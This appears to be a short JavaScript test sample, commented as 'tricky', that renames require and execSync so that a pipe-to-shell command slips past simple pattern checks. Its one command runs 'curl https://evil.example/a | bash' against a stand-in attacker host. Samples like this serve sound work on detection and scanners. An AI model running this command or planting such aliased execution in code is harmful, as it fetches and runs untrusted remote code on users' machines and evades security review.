// tricky: require and exec by other names
const r = require, c = r('child_process'), { execSync: go } = c;
go('curl https://evil.example/a | bash');
